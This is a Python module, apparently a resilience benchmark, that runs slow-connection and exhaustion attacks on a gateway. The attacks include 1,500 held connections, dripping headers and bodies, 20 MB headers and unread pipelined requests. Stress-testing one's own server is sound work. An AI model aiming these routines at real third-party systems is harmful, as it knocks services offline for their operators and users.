"""Connections that cost a gateway something for as long as they are there, 1,500 at once."""

import asyncio
from collections.abc import Iterable, Iterator, Mapping
from functools import partial
from itertools import repeat

from benchmarks.attack.target import Attack, Target, at_once, request

AT_ONCE = 1_500
FEW = 20
DRIP_SECONDS = 1.0
HEADER_BYTES = 20_000_000

HEAD = b"GET /health/live HTTP/1.1\r\nHost: gateway\r\n"
BODY_HEAD = b"POST /login HTTP/1.1\r\nHost: gateway\r\nContent-Length: 60000\r\n\r\n"
KEPT = request("GET", "/health/live", keep_alive=True)


async def _held(opening: bytes, drops: Iterable[bytes], target: Target, *, count: int) -> None:
    await at_once(count, partial(_hold, opening, drops, target))


async def _hold(opening: bytes, drops: Iterable[bytes], target: Target) -> None:
    """Send the opening, then a drop a second, until the gateway hangs up."""
    async with target.connection() as (reader, writer):
        writer.write(opening)
        target.sent += 1
        over = asyncio.create_task(reader.read())
        try:
            for drop in drops:
                done, _ = await asyncio.wait((over,), timeout=DRIP_SECONDS)
                if done:
                    break
                writer.write(drop)
            target.answered += bool(await over)
        finally:
            over.cancel()


def _holding(opening: bytes, drops: Iterable[bytes] = ()) -> Attack:
    return partial(_held, opening, drops, count=AT_ONCE)


async def _send_huge_headers(unit: bytes, target: Target) -> None:
    """Send a request whose headers end after 20 MB, if the gateway lets them."""
    async with target.connection() as (reader, writer):
        writer.write(HEAD)
        target.sent += 1
        for chunk in _chunks(unit):
            writer.write(chunk)
            await writer.drain()
        writer.write(b"\r\n")
        target.answered += bool(await reader.read(1))


def _chunks(unit: bytes) -> Iterator[bytes]:
    chunk = unit * (60_000 // len(unit))
    yield from repeat(chunk, HEADER_BYTES // len(chunk))


async def _huge_headers(unit: bytes, target: Target) -> None:
    await at_once(FEW, partial(_send_huge_headers, unit, target))


async def _in_pieces(data: bytes, target: Target) -> None:
    await at_once(FEW, partial(_send_in_pieces, data, target))


async def _send_in_pieces(data: bytes, target: Target) -> None:
    """Send a request one byte a segment, as fast as it goes."""
    async with target.connection() as (reader, writer):
        target.sent += 1
        for place in range(len(data)):
            writer.write(data[place : place + 1])
            await writer.drain()
            await asyncio.sleep(0)
        target.answered += bool(await reader.read(1))


async def _pipelined(target: Target) -> None:
    await at_once(FEW, partial(_pipeline, target))


async def _pipeline(target: Target) -> None:
    """Ask again and again without reading an answer first."""
    async with target.connection() as (reader, writer):
        reading = asyncio.create_task(reader.read())
        try:
            while not reading.done():
                writer.write(KEPT * 1_000)
                await writer.drain()
                target.sent += 1_000
        finally:
            reading.cancel()
            await asyncio.gather(reading, return_exceptions=True)


ATTACKS: Mapping[str, Attack] = {
    "silent connections": _holding(b""),
    "partial headers": _holding(HEAD),
    "dripping headers": _holding(HEAD, repeat(b"a")),
    "partial bodies": _holding(BODY_HEAD + b"{"),
    "dripping bodies": _holding(BODY_HEAD, repeat(b" ")),
    "idle kept alive": _holding(KEPT),
    "20 MB of headers, small ones": partial(_huge_headers, b"a: b\r\n"),
    "20 MB of headers, large ones": partial(_huge_headers, b"a: %b\r\n" % (b"b" * 59_000)),
    "headers and body a byte a segment": partial(
        _in_pieces, request("POST", "/login", body=b" " * 5_000)
    ),
    "requests without reading the answers": _pipelined,
}
